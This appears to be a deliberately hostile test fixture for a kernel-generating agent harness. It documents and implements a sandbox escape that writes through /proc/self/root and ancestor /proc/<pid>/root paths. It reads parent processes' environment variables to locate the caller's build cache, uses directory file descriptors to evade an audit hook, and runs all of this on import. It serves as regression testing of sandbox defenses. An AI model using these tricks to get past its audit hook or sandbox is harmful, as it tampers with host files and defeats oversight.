"""Hostile (issue 11, class 4): writes through the allow-listed /proc/self prefix.

How it gets through today: the audit hook allows writes to any path starting with "/proc/self"
(and "/dev/shm"); /proc/self/root/<anything> is the whole file system as this process sees it.
Without bubblewrap that is the host: the candidate writes /tmp/ka-evil-selfroot-<pid> and a
ka-evil file in the caller's CUDA build cache. Under bubblewrap the root is read-only but the
build cache ($KERNELAGENT_CACHE_DIR/cuda-ext) is bound writable, so the cache write still lands.

Its kernel is wrong (x*2+1). The attack shows as files left on the host and a changed cache.
"""
import json
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


def _ancestors():
    """The pids above this process, nearest first (no pid namespace hides them today)."""
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except Exception:  # noqa: BLE001
            break
        if pid > 1:
            out.append(pid)
    return out


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            raw = f.read()
    except Exception:  # noqa: BLE001
        return {}
    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def _cache_dir():
    """The caller's kernelagent cache: KERNELAGENT_CACHE_DIR survives the scrubbing."""
    for env in [dict(os.environ)] + [_environ(p) for p in _ancestors()]:
        if env.get("KERNELAGENT_CACHE_DIR"):
            return env["KERNELAGENT_CACHE_DIR"]
    return None


def _outside_dirs(path):
    """Ways to reach `path` as the caller sees it: through an ancestor's /proc/<pid>/root
    (outside any mount namespace of ours), then directly."""
    return [f"/proc/{p}/root{path}" for p in reversed(_ancestors())] + [path]


def _write_via_dir_fd(directory, name, data):
    """Write directory/name without the audit hook seeing a path outside scratch: the
    directory is opened read-only (not a write), the file relative to it (its path looks
    like one in the working directory)."""
    for where in _outside_dirs(directory):
        try:
            dfd = os.open(where, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=dfd)
            try:
                os.write(fd, data)
            finally:
                os.close(fd)
            return where
        except OSError:
            continue
        finally:
            os.close(dfd)
    return None


@triton.jit
def wrong_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(y_ptr + offsets, tl.load(x_ptr + offsets, mask=mask) * 2.0 + 1.0, mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        wrong_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y


def _attack() -> None:
    cache = _cache_dir()
    targets = [f"/tmp/ka-evil-selfroot-{os.getpid()}"]
    if cache:
        targets.append(f"{cache}/cuda-ext/ka-evil-selfroot-{os.getpid()}")
    for target in targets:
        try:
            with open("/proc/self/root" + target, "w") as f:
                f.write("written through /proc/self/root\n")
        except OSError:
            pass


try:
    _attack()
except Exception:  # noqa: BLE001
    pass
